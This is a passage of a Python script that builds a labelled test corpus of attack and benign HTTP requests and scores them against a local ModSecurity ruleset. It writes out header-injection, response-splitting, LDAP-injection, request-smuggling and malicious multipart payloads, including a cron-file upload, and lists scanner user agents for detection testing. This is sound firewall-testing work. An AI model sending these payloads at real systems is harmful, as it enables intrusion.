            payload = g.pick(["<script>document.cookie=\"%s=%s\";</script>", "<meta http-equiv=\"Set-Cookie\" content=\"%s=%s\">",
                              "javascript:document.cookie='%s=%s; path=/'", "\";document.cookie=\"%s=%s"]) % (g.pick(names), sid)
            out.append(("payload", payload))
        else:
            out.append(("param" if k == 1 else "param-referer", (g.pick(names), sid)))
    return out


SCANNER_UAS = ["Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "sqlmap/1.7.2#stable (https://sqlmap.org)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
               "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "DirBuster-1.0-RC1 (http://www.owasp.org)",
               "gobuster/3.6", "WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)",
               "Mozilla/5.0 (Windows NT 10.0) Acunetix-WVS", "Nessus SOAP", "w3af.org", "nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               "Havij", "Arachni/v1.5.1", "OpenVAS-VT", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1) Netsparker",
               "WhatWeb/0.5.5", "fimap.googlecode.com", "Mozilla/5.0 (compatible; Zollard)", "ZmEu", "morfeus fucking scanner",
               "Jorgee", "python-requests/2.31.0", "curl/8.4.0", "Wget/1.21.3", "Go-http-client/1.1", "libwww-perl/6.72",
               "Java/17.0.9", "Python-urllib/3.11", "Scrapy/2.11 (+https://scrapy.org)", "Apache-HttpClient/4.5.14 (Java/11)"]


def build(g):
    # ---- attacks ---------------------------------------------------------
    g.spread("sqli-942", sqli(g, 240), ["query", "form", "json", "cookie", "multipart", "query", "form", "referer", "ua"], 280)
    g.spread("xss-941", xss(g, 200), ["query", "form", "json", "cookie", "multipart", "referer", "ua", "query", "form", "header"], 240)
    g.spread("lfi-930", lfi(g, 160), ["query", "form", "json", "cookie", "multipart", "query"], 160,
             names=["file", "page", "path", "template", "doc", "include", "lang", "view"])
    for p in restricted_paths(g, 40):
        g.place("lfi-930", p, "path")
    for i, p in enumerate(lfi(g, 200)[:30]):
        enc = p.replace("../", "..%2f").replace("..\\", "..%5c")
        g.place("lfi-930", "/static/" + enc.lstrip("/"), "path")
    g.spread("rfi-931", rfi(g, 110), ["query", "form", "json", "multipart", "cookie", "query"], 120,
             names=["url", "page", "include", "file", "src", "template", "load", "path"])
    unix, shock = rce_unix(g, 180)
    g.spread("rce-unix-932", unix, ["query", "form", "json", "cookie", "multipart", "query", "form"], 200,
             names=["cmd", "ip", "host", "exec", "q", "name", "file"])
    for i in range(24):
        g.place("rce-unix-932", g.pick(shock), ["ua", "referer", "header", "cookie"][i % 4])
    g.spread("rce-windows-932", rce_windows(g, 110), ["query", "form", "json", "cookie", "multipart"], 110,
             names=["cmd", "ip", "host", "path", "q"])
    g.spread("rce-powershell-932", rce_powershell(g, 80), ["query", "form", "json", "multipart"], 90,
             names=["cmd", "script", "q", "data"])
    php_p, uploads = php(g, 150)
    g.spread("php-933", php_p, ["query", "form", "json", "cookie", "multipart", "query"], 170,
             names=["q", "page", "file", "code", "data", "config"])
    for fn in uploads * 2:
        g.place("php-933", fn, "filename")
    g.spread("nodejs-934", nodejs(g, 70), ["query", "form", "json", "cookie", "multipart"], 80,
             names=["q", "data", "name", "profile", "input"])
    for i, (kind, v) in enumerate(session(g, 66)):
        if kind == "payload":
            g.place("session-943", v, ["query", "form", "cookie"][i % 3])
        else:
            name, sid = v
            h = g.browser()
            h = [(k, x) for k, x in h if k != "Referer"]
            if kind == "param-referer":
                h.append(("Referer", "http://%s/landing" % g.pick(["evil.example.net", "phish.example.org", "203.0.113.9"])))
            target = "/%s?%s=%s" % (g.pick(WORDS), name, sid)
            if i % 2:
                g.add("session-943", "query", False, g.raw("GET", target, h))
            else:
                g.add("session-943", "form", False, g.raw(
                    "POST", "/login", h + [("Content-Type", "application/x-www-form-urlencoded")],
                    "user=alice&%s=%s" % (name, sid)))
    g.spread("java-944", java(g, 90), ["query", "form", "json", "cookie", "multipart", "header", "ua"], 130,
             names=["q", "data", "x", "redirect", "name", "class.module.classLoader.URLs[0]"])
    # scanners: UA, scanner headers, scanner URLs
    for i in range(len(SCANNER_UAS) * 2):
        ua = SCANNER_UAS[i % len(SCANNER_UAS)]
        h = [(k, v) for k, v in g.browser() if k != "User-Agent"] + [("User-Agent", ua)]
        g.add("scanner-913", "ua", False, g.raw("GET", g.pick(["/", "/index.php", "/admin/", "/login"]), h))
    for hn, hv in [("Acunetix-Product", "WVS/13.0"), ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"),
                   ("Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm"), ("X-Scanner", "Netsparker"),
                   ("X-Wipp", "1"), ("Bypass-Tunnel-Reminder", "1")]:
        for j in range(3):
            g.add("scanner-913", "header", False, g.raw("GET", "/%s" % g.pick(WORDS), g.browser() + [(hn, hv)]))
    for u in ["/nessustest", "/nessus_is_probing_you_", "/acunetix-wvs-test-for-some-inexistent-file",
              "/NessusTest123.html", "/appscan_fingerprint/mac_address", "/w00tw00t.at.ISC.SANS.DFind:)",
              "/nikto-test-%s.html" % g.token(6), "/mstshash=Administr"]:
        g.add("scanner-913", "path", False, g.raw("GET", u, g.browser()))
    # methods
    for m in ["PUT", "DELETE", "PATCH", "TRACE", "TRACK", "PROPFIND", "MOVE", "COPY", "MKCOL", "LOCK", "DEBUG",
              "FOO", "CONNECT", "SEARCH", "PURGE", "get", "Post", "OPTIONS", "HEAD", "CHECKOUT", "UNLOCK"]:
        for j in range(3):
            h = g.browser()
            body = None
            if m in ("PUT", "PATCH", "PROPFIND") and j:
                body = '{"name":"x"}' if m != "PROPFIND" else '<?xml version="1.0"?><propfind xmlns="DAV:"><allprop/></propfind>'
                h = h + [("Content-Type", "application/json" if m != "PROPFIND" else "text/xml")]
            target = "www.example.com:443" if m == "CONNECT" else "/%s/%d" % (g.pick(WORDS), g.r.randrange(100))
            g.add("method-911", "method", False, g.raw(m, target, h, body))
    protocol(g)
    smuggling(g)
    multipart_attacks(g)
    # ---- benign ----------------------------------------------------------
    benign(g)


def protocol(g):
    cls = "protocol-920"

    def add(where, raw):
        g.add(cls, where, False, raw)
    b = g.browser
    for i in range(10):
        add("header", g.raw("GET", "/", b(), host="%d.%d.%d.%d" % (10, i, 2, 3)))                    # numeric Host
        add("header", g.raw("GET", "/x", [(k, v) for k, v in b() if k != "User-Agent"] + [("User-Agent", "")]))
        add("header", g.raw("GET", "/x", [(k, v) for k, v in b() if k != "Accept"]))                 # no Accept
        add("header", g.raw("GET", "/x", [(k, v) for k, v in b() if k != "User-Agent"]))             # no UA
        add("header", g.raw("GET", "/x", [(k, v) for k, v in b() if k != "Accept"] + [("Accept", "")]))
        add("header", g.raw("GET", "/", b(), host=""))                                               # empty Host
        add("query", g.raw("GET", "/s?q=%s" % g.pick(["%zz", "abc%", "%g1x", "%u00", "100%"]), b()))  # bad %-encoding
        add("query", g.raw("GET", "/s?q=a%00b" + g.pick(["", ".jpg", "&x=1"]), b()))                 # NUL
        add("query", g.raw("GET", "/s?q=%s" % g.pick(["%01", "%1f", "%7f", "%ff%fe", "%0b"]), b()))   # control chars
        add("query", g.raw("GET", "/s?q=%s" % g.pick(["%25%32%37", "%252e%252e", "%2527"]), b()))     # double encoding
        add("query", g.raw("GET", "/s?q=%s" % g.pick(["%uff1cscript%uff1e", "%u0027", "%u2215etc"]), b()))
        add("header", g.raw("GET", "/x", b() + [("Range", "bytes=" + ",".join("%d-%d" % (k, k + 1) for k in range(0, 2 * (g.r.randrange(3, 40)), 2)))]))
        add("header", g.raw("GET", "/x", b() + [("Range", g.pick(["bytes=0-,0-", "bytes=5-1", "items=0-9", "bytes=-"]))]))
        add("header", g.raw("GET", "/x", b() + [("Request-Range", "bytes=0-1,2-3")]))
        add("header", g.raw("GET", "/x", b() + [(g.pick(["Proxy", "Lock-Token", "Content-Range", "Translate", "If"]), "x")]))
        add("path", g.raw("GET", "/download/%s.%s" % (g.pick(WORDS), g.pick(["bak", "sql", "old", "ini", "log", "config", "mdb", "swp", "inc", "dll", "pwd", "key"])), b()))
        add("body", g.raw("GET", "/x?a=1", b() + [("Content-Type", "application/x-www-form-urlencoded")], "a=b"))  # GET with body
        add("body", g.raw("POST", "/x", b() + [("Content-Type", g.pick(["text/plain", "application/octet-stream", "application/x-foo", "image/png", "text/x-shellscript"]))], "hello=1"))
        add("body", g.raw("POST", "/x", b() + [("Content-Type", "application/x-www-form-urlencoded; charset=%s" % g.pick(["utf-7", "ibm037", "x-mac-roman", "utf-32", "shift_jis"]))], "a=b"))
        add("body", g.raw("POST", "/x", b(), "a=b"))                                                  # body without Content-Type
        add("version", g.raw("GET", "/x", b(), version=g.pick(["HTTP/1.2", "HTTP/0.9", "HTTP/3.0", "HTTP/1.1 "])))
        add("header", g.raw("GET", "/x", b() + [("Connection", g.pick(["keep-alive, close", "close, keep-alive", "keep-alive,keep-alive"]))]))
        add("query", g.raw("GET", "/s?" + "&".join("p%d=%d" % (k, k) for k in range(g.r.randrange(260, 320))), b()))  # many args
        add("query", g.raw("GET", "/s?%s=1" % ("n" * g.r.randrange(120, 200)), b()))                  # long arg name
        add("header", g.raw("GET", "/x", b() + [("Accept-Encoding", "gzip," * g.r.randrange(10, 60) + "identity")]))
        add("header", g.raw("HEAD", "/x", b() + [("Transfer-Encoding", "chunked")], "0\r\n\r\n", content_length=False))
        add("header", g.raw("GET", "/x", b() + [("Content-Length", "0"), ("Content-Type", "application/json")]))
        add("query", g.raw("GET", "/s?q=" + g.pick(["%c0%af", "%e0%80%af", "%f0%80%80%af", "%c1%9c"]), b()))
        add("path", g.raw("GET", g.pick(["/a/b%2f..%2fc", "/index.php/%2e%2e", "/a//b///c", "/%2e/x", "/x%3b.jpg"]), b()))
        add("header", g.raw("POST", "/upload", b() + [("Content-Type", "multipart/form-data")], "x"))      # no boundary
    add("body", g.raw("POST", "/x", b() + [("Content-Type", "application/x-www-form-urlencoded")],
                      "a=" + "x" * g.r.randrange(131100, 133000)))     # body over SecRequestBodyNoFilesLimit
    for i in range(4):
        add("body", g.raw("POST", "/api", g.api_client() + [("Content-Type", "application/json")],
                          g.pick(['{"a": {bad', "[1,2", '{"a":1,}', "{'single':'quotes'}"])))
        add("body", g.raw("POST", "/svc", b() + [("Content-Type", "text/xml")],
                          g.pick(["<a><b></a>", "<?xml version='1.0'?><x>&undefined;</x>", "<x>unterminated"])))


def smuggling(g):
    cls = "smuggling-921"
    b = g.browser

    def add(where, raw):
        g.add(cls, where, False, raw)
    inner = "GET /admin HTTP/1.1\r\nHost: internal.example\r\n\r\n"
    for i in range(4):
        add("wire", g.raw("POST", "/x", b() + [("Content-Length", "4"), ("Transfer-Encoding", "chunked")],
                          "0\r\n\r\n" + inner, content_length=False))
        add("wire", g.raw("POST", "/x", b() + [("Transfer-Encoding", "chunked"), ("Content-Length", "%d" % (g.r.randrange(3, 9)))],
                          "5\r\nhello\r\n0\r\n\r\n", content_length=False))
        add("wire", g.raw("POST", "/x", b() + [("Content-Length", "5"), ("Content-Length", "%d" % g.r.randrange(6, 9))],
                          "hello", content_length=False))
        add("wire", g.raw("POST", "/x", b() + [("Transfer-Encoding", g.pick(["xchunked", "chunked, identity", "identity", "chunked,chunked", "CHUNKED"]))],
                          "5\r\nhello\r\n0\r\n\r\n", content_length=False))
        add("wire", g.raw("POST", "/x", b() + [("Transfer-Encoding", g.pick(["chunked ", " chunked", "\tchunked"]))],
                          "5\r\nhello\r\n0\r\n\r\n", content_length=False))
        add("wire", g.raw("POST", "/x", b() + [("Transfer-Encoding", "chunked")],
                          g.pick(["5;ext=1\r\nhello\r\n0\r\n\r\n", "0x5\r\nhello\r\n0\r\n\r\n", "5\r\nhello\r\n0\r\nX-Trailer: 1\r\n\r\n",
                                  "-1\r\nx\r\n0\r\n\r\n", "5\nhello\n0\n\n"]), content_length=False))
        add("wire", g.raw("GET", "/x", b() + [("Content-Length", "%d" % len(inner))], inner, content_length=False))
        add("wire", g.raw("POST", "/x", b() + [("Content-Length", g.pick(["+5", "5 ", "0x5", "05", "5,5"]))], "hello", content_length=False))
    # smuggling / response splitting / header injection inside parameters (921110-921160)
    payloads = ["x\r\nGET /admin HTTP/1.1\r\nHost: a", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1 200 OK",
                "x\r\nSet-Cookie: sid=evil", "foo\r\nLocation: http://evil.example.net/", "x\r\n\r\n<html><script>alert(1)</script>",
                "POST /x HTTP/1.1\r\nHost: b\r\nContent-Length: 5", "a\nHEAD / HTTP/1.0\n\n", "%0aSet-Cookie:%20a=b",
                "\r\nContent-Type: text/html\r\n\r\n<html>x</html>", "x\r\nX-Injected: 1",
                "*)(uid=*))(|(uid=*", "(|(objectClass=*)(cn=admin))", "admin)(&)", "*)(|(password=*)"]
    for i in range(56):
        p = payloads[i % len(payloads)]
        g.place(cls, p, ["query", "form", "json", "cookie"][i % 4])
    for i in range(8):
        name = g.pick(["a\r\nb", "x%0d%0ay", "n\nX-Hdr: 1"])
        enc = urllib.parse.quote(name, safe="%")
        add("query", g.raw("GET", "/s?%s=1" % enc, b()))
    for i in range(8):
        add("query", g.raw("GET", "/s?a=1&a=2&" + "&".join("a=%d" % k for k in range(g.r.randrange(1, 5))), b()))
        add("form", g.raw("POST", "/s?id=1", b() + [("Content-Type", "application/x-www-form-urlencoded")], "id=2&id=3"))


def multipart_attacks(g):
    cls = "multipart-922"
    b = g.browser
    for i in range(8):
        bd = "----x" + g.token(10)
        parts = ('--%s\r\nContent-Disposition: form-data; name="f"\r\nContent-Type: text/plain; charset=%s\r\n\r\nabc\r\n--%s--\r\n'
                 % (bd, g.pick(["utf-7", "ibm500", "utf-32le", "x-imap4-modified-utf7"]), bd))
        g.add(cls, "multipart", False, g.raw("POST", "/up", b() + [("Content-Type", "multipart/form-data; boundary=%s" % bd)], parts))
        parts = ('--%s\r\nContent-Disposition: form-data; name="f"\r\nContent-Transfer-Encoding: %s\r\n\r\nYWJj\r\n--%s--\r\n'
                 % (bd, g.pick(["base64", "quoted-printable", "7bit"]), bd))
        g.add(cls, "multipart", False, g.raw("POST", "/up", b() + [("Content-Type", "multipart/form-data; boundary=%s" % bd)], parts))
        shape = g.pick([
            '--{b}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--{b}\r\nContent-Disposition: form-data; name="a"; filename="x.txt"\r\n\r\n2\r\n--{b}--\r\n',
            'junk before\r\n--{b}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--{b}--\r\n',
            '--{b}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--{b}--\r\ntrailing junk',
            '--{b}\r\nContent-Disposition: form-data; name=a"\r\n\r\n1\r\n--{b}--\r\n',
            '--{b}\nContent-Disposition: form-data; name="a"\n\n1\n--{b}--\n',
            '--{b}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--{b}x\r\n--{b}--\r\n',
            '--{b}\r\nContent-Disposition: form-data;\r\n name="a"\r\n\r\n1\r\n--{b}--\r\n',
            '--{b}\r\nContent-Disposition: form-data; name="a"; filename="../../etc/cron.d/x"\r\n\r\n* * * * * id\r\n--{b}--\r\n',
            '--{b}\r\nContent-Disposition: form-data; name="a"; filename="x\'.php"\r\n\r\n<?php ?>\r\n--{b}--\r\n',
        ])
        bq = g.pick(['"%s"' % bd, bd, bd + " ", bd])
        g.add(cls, "multipart", False, g.raw("POST", "/up", b() + [("Content-Type", "multipart/form-data; boundary=%s" % bq)],
                                             shape.format(b=bd)))


def benign(g):
    r = g.r

    def add(cls, where, raw):
        g.add(cls, where, True, raw)
    # browsing: pages and assets
    for i in range(260):
        old = r.random() < 0.15
        h = g.browser(old=old)
        if r.random() < 0.6:
            h.append(("Cookie", g.cookies()))
        if r.random() < 0.2:
            h.append(("If-Modified-Since", "Wed, %02d Oct 2023 07:28:00 GMT" % r.randrange(1, 29)))
        if r.random() < 0.1:
            h.append(("Cache-Control", "max-age=0"))
        path = g.pick(["/", "/index.html", "/%s/" % g.pick(WORDS), "/%s/%s-%d.html" % (g.pick(WORDS), g.pick(WORDS), r.randrange(9999)),
                       "/static/css/site.%s.css" % g.hexid(8), "/static/js/app.%s.js" % g.hexid(8),
                       "/img/%s_%d.jpg" % (g.pick(WORDS), r.randrange(500)), "/favicon.ico", "/robots.txt",
                       "/%s?page=%d&sort=%s" % (g.pick(WORDS), r.randrange(1, 50), g.pick(["asc", "desc", "price", "date"]))])
        add("benign-browse", "query", g.raw("GET", path, h, version="HTTP/1.1" if not old or r.random() < 0.7 else "HTTP/1.0"))
    # forms with prose
    for i in range(160):
        h = g.browser() + [("Cookie", g.cookies())]
        text = g.pick(PROSE)
        fields = [("name", g.pick(["Alice Martin", "Bob O'Neil", "José García", "Zoë Smith-Jones", "李雷"])),
                  ("email", "%s@example.com" % g.pick(["alice", "bob.smith", "j.garcia", "info+news"])),
                  (g.pick(["message", "comment", "body", "review"]), text)]
        if r.random() < 0.5:
            fields.append(("rating", str(r.randrange(1, 6))))
        if r.random() < 0.5:
            fields.append(("csrf_token", g.token(32)))
        body = urllib.parse.urlencode(fields)
        add("benign-form", "form", g.raw("POST", "/%s/submit" % g.pick(["contact", "review", "comments", "support"]),
                                         h + [("Content-Type", "application/x-www-form-urlencoded"),
                                              ("Origin", "https://www.example.com")], body))
    for i in range(40):
        q = g.pick(["cheap flights to new york", "how to select a good laptop", "drop shipping union rules",
                    "where is the nearest pharmacy", "recipe for apple pie", "update windows 10 error", "cat or dog",
                    "order status 12345", "c++ vs java performance", "best 2-in-1 tablet 2023", "1/2 cup to grams",
                    "what does 'rm' mean in music", "o'reilly books on python"])
        add("benign-form", "query", g.raw("GET", "/search?q=%s&lang=en" % urllib.parse.quote_plus(q), g.browser() + [("Cookie", g.cookies())]))
    # JSON APIs
    for i in range(200):
        h = g.api_client() + [("Authorization", "Bearer %s.%s.%s" % (g.token(36), g.token(80), g.token(43)))]
        doc = g.pick([
            {"query": g.pick(WORDS), "page": r.randrange(1, 20), "filters": {"in_stock": True, "max_price": r.randrange(10, 500)}},
            {"items": [{"sku": "SKU-%05d" % r.randrange(99999), "qty": r.randrange(1, 5)} for _ in range(r.randrange(1, 4))],
             "currency": "EUR", "coupon": None},
            {"user": {"name": "Alice", "locale": "en_GB", "newsletter": False}, "address": {"street": "12 High Street", "city": "Leeds", "zip": "LS1 4AP"}},
            {"event": "page_view", "ts": 1700000000 + r.randrange(10**6), "props": {"path": "/%s" % g.pick(WORDS), "referrer": "https://www.google.com/"}},
            {"comment": g.pick(PROSE), "post_id": r.randrange(1000)},
            {"lat": 51.5 + r.random(), "lon": -0.1 + r.random(), "radius_km": 5},
        ])
        method = "POST" if r.random() < 0.85 else g.pick(["PUT", "PATCH", "DELETE"])
        add("benign-json", "json", g.raw(method, "/api/v%d/%s" % (r.randrange(1, 3), g.pick(WORDS)),
                                         h + [("Content-Type", "application/json")], json.dumps(doc, ensure_ascii=False)))
    for i in range(40):
        add("benign-json", "query", g.raw("GET", "/api/v1/%s/%d?fields=id,name,price&expand=owner" % (g.pick(WORDS), r.randrange(10**6)),
                                          g.api_client() + [("X-Requested-With", "XMLHttpRequest")]))
    # cookies incl. long analytics and consent cookies
    for i in range(120):
        c = [g.cookies(), "_fbp=fb.1.%d.%d" % (r.randrange(1600000000000, 1700000000000), r.randrange(10**9)),
             "__utma=%d.%d.%d.%d.%d.%d" % (r.randrange(10**8), r.randrange(10**9), r.randrange(1600000000, 1700000000), r.randrange(1600000000, 1700000000), r.randrange(1600000000, 1700000000), r.randrange(1, 50)),
             "__utmz=%d.%d.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%%20provided)" % (r.randrange(10**8), r.randrange(1600000000, 1700000000)),
             "AMCV_%s%%40AdobeOrg=%s" % (g.token(24, "0123456789ABCDEF"), urllib.parse.quote("-1124106680|MCIDTS|19675|MCMID|%s|MCAAMLH-1700000000|6|MCAAMB-%s|vVersion|5.5.0" % (g.token(38, "0123456789"), g.token(40)), safe="")),
             "OptanonConsent=%s" % urllib.parse.quote("isGpcEnabled=0&datestamp=Mon Nov 20 2023 10:00:00 GMT+0100 (Central European Standard Time)&version=202310.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=%s&interactionCount=1&landingPath=NotLandingPage&groups=C0001:1,C0002:1,C0003:0,C0004:0" % g.hexid(32), safe=""),
             "optimizelyEndUserId=oeu%d.%s" % (r.randrange(1600000000000, 1700000000000), r.random()),
             "_hjSessionUser_%d=%s" % (r.randrange(10**6), base64.b64encode(json.dumps({"id": g.hexid(16), "created": 1700000000000, "existing": True}).encode()).decode())]
        r.shuffle(c)
        h = g.browser() + [("Cookie", "; ".join(c[:r.randrange(3, len(c) + 1)]))]
        add("benign-cookies", "cookie", g.raw("GET", "/%s" % g.pick(WORDS), h))
    # uploads
    for i in range(80):
        fn = g.pick(["IMG_%04d.JPG" % r.randrange(9999), "scan 2023-10-%02d.pdf" % r.randrange(1, 29), "report_final (2).docx",
                     "data.csv", "photo-%d.png" % r.randrange(999), "Lebenslauf_Müller.pdf", "notes.txt", "avatar.webp"])
        ct = {"JPG": "image/jpeg", "pdf": "application/pdf", "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
              "csv": "text/csv", "png": "image/png", "txt": "text/plain", "webp": "image/webp"}[fn.rsplit(".", 1)[1]]
        content = g.pick(["%PDF-1.4 binary-ish content here", "id,name,price\n1,Tea,2.50\n2,Coffee,3.10",
                          "JFIF....Exif..camera", "Remember to buy milk and bread.", "PNG....IHDR....IDAT"])
        parts = [("title", None, None, g.pick(["Holiday pictures", "Q3 report", "My CV", "scan"])), ("file", fn, ct, content)]
        if r.random() < 0.5:
            parts.insert(0, ("csrf", None, None, g.token(20)))
        add("benign-upload", "multipart", g.multipart("/upload", g.browser() + [("Cookie", g.cookies())], parts))
    # ad-tech and tracking query strings
    for i in range(120):
        land = "https://www.example.com/%s/%s?ref=%s" % (g.pick(WORDS), g.pick(WORDS), g.token(8))
        params = [("utm_source", g.pick(["google", "facebook", "newsletter", "bing"])), ("utm_medium", g.pick(["cpc", "email", "social"])),
                  ("utm_campaign", "%s_%d" % (g.pick(["spring_sale", "black-friday", "retarget"]), r.randrange(99))),
                  ("gclid", g.token(90, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")),
                  ("fbclid", "IwAR" + g.token(60)), ("cb", str(r.randrange(10**12))), ("sz", g.pick(["300x250", "728x90", "160x600"])),
                  ("url", land), ("dt", str(1700000000000 + r.randrange(10**9))), ("bpp", str(r.randrange(30))),
                  ("correlator", str(r.randrange(10**15))), ("ga_vid", "%d.%d" % (r.randrange(10**9), r.randrange(1600000000, 1700000000))),
                  ("u_tz", str(g.pick([60, -300, 0, 120]))), ("iu", "/1234/%s/%s" % (g.pick(WORDS), g.pick(WORDS))),
                  ("prev_scp", "pos=top;kw=%s" % g.pick(WORDS)), ("ord", str(r.randrange(10**9)))]
        r.shuffle(params)
        qs = urllib.parse.urlencode(params[:r.randrange(4, len(params) + 1)])
        path = g.pick(["/", "/pixel.gif", "/gampad/ads", "/collect", "/landing/%s" % g.pick(WORDS)])
        add("benign-adtech", "query", g.raw("GET", "%s?%s" % (path, qs), g.browser() + [("Cookie", g.cookies())]))
    # prose with SQL / shell words in query and body
    for i in range(100):
        text = g.pick(PROSE + ["select your seat from the map", "drop table tennis lessons on mondays", "insert coin to continue",
                               "update: the shop is closed on sunday", "cat videos and dog videos", "echo chamber effects on twitter",
                               "the union of two sets contains every element of both", "where to find the best ramen in tokyo",
                               "wget-like download managers for windows", "how do i exit vim"])
        if i % 2:
            add("benign-prose", "query", g.raw("GET", "/forum/search?q=%s" % urllib.parse.quote(text), g.browser()))
        else:
            add("benign-prose", "form", g.raw("POST", "/forum/post", g.browser() + [("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", g.cookies())],
                                              urllib.parse.urlencode([("topic", r.randrange(1000)), ("text", text)])))
    # old browsers and HTTP/1.0
    for i in range(60):
        h = g.browser(old=True)
        add("benign-oldbrowser", "header", g.raw("GET", g.pick(["/", "/index.html", "/news/", "/%s.html" % g.pick(WORDS)]), h,
                                                 version=g.pick(["HTTP/1.1", "HTTP/1.0"])))
    for i in range(20):
        add("benign-misc", "header", g.raw(g.pick(["HEAD", "OPTIONS"]), "/%s" % g.pick(WORDS), g.browser()))
        add("benign-misc", "header", g.raw("GET", "/feed.xml", [("User-Agent", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)"),
                                                                ("Accept", "application/rss+xml, */*"), ("If-None-Match", '"%s"' % g.hexid(16))]))


# --------------------------------------------------------------------------
# output

def generate():
    g = Gen(SEED)
    build(g)
    return g.out


def write_requests(reqs, path):
    with open(path, "w", encoding="utf-8") as f:
        for q in reqs:
            f.write(json.dumps(q, ensure_ascii=False) + "\n")


def load_requests(path=None):
    path = path or os.path.join(HERE, "requests.jsonl")
    with open(path, encoding="utf-8") as f:
        return [json.loads(l) for l in f if l.strip()]


def stored_verdict(q, v):
    """The fields kept in modsec_pl<N>.jsonl for request Q's verdict V
    (modsec.py's verdict; `matched` without modsec.flow_control ids)."""
    import modsec as M
    return {"id": q["id"], "status": v["status"], "seen": v["seen"], "phase2": 2 in v["phases"],
            "blocked": v["blocked"], "disruptive": v["disruptive"], "score": v["score"],
            "rules": v["rules"], "matched": [r for r in v["matched"] if not M.flow_control(r)]}


def run_oracle(reqs, paranoia, workdir):
    import modsec as M
    why = M.ensure_installed()
    if why:
        raise SystemExit(why)
    m = M.ModSecurity(workdir, name="corpus-pl%d" % paranoia, paranoia=paranoia).start()
    try:
        out = []
        for i, q in enumerate(reqs):
            out.append(stored_verdict(q, m.verdict(q["raw"])))
            if (i + 1) % 500 == 0:
                print("PL%d: %d/%d" % (paranoia, i + 1, len(reqs)), flush=True)
        return out
    finally:
        m.stop()


def counts_table(reqs, pl1, pl2):
    classes = {}
    for q, a, b in zip(reqs, pl1, pl2):
        c = classes.setdefault(q["class"], [0, 0, 0, 0, 0])
        c[0] += 1
        c[1] += a["blocked"]
        c[2] += b["blocked"]
        c[3] += not a["seen"] or not a["phase2"]
        c[4] += q["benign"]
    rows = ["| class | benign | requests | blocked PL1 | blocked PL2 | not through phase 2 |",
            "|---|---|---:|---:|---:|---:|"]
    tot = [0, 0, 0, 0]
    for k in sorted(classes, key=lambda k: (k.startswith("benign"), k)):
        c = classes[k]
        rows.append("| %s | %s | %d | %d | %d | %d |" % (k, "yes" if c[4] else "no", c[0], c[1], c[2], c[3]))
        for j in range(4):
            tot[j] += c[j]
    rows.append("| **total** | | %d | %d | %d | %d |" % tuple(tot))
    return "\n".join(rows)


def main():
    reqs = generate()
    path = os.path.join(HERE, "requests.jsonl")
    write_requests(reqs, path)
    print("%d requests -> %s" % (len(reqs), path))
    if "--oracle" not in sys.argv:
        return
    import tempfile
    work = tempfile.mkdtemp(prefix="crs-corpus-")
    res = {}
    for pl in (1, 2):
        res[pl] = run_oracle(reqs, pl, work)
        with open(os.path.join(HERE, "modsec_pl%d.jsonl" % pl), "w") as f:
            for v in res[pl]:
                f.write(json.dumps(v, separators=(",", ":")) + "\n")
    table = counts_table(reqs, res[1], res[2])
    print(table)
    readme = os.path.join(HERE, "README.md")
    if os.path.exists(readme):
        text = open(readme, encoding="utf-8").read()
        a, b = "<!-- counts:begin -->", "<!-- counts:end -->"
        if a in text and b in text:
            text = text[:text.index(a) + len(a)] + "\n" + table + "\n" + text[text.index(b):]
            with open(readme, "w", encoding="utf-8") as f:
                f.write(text)
    import shutil
    shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
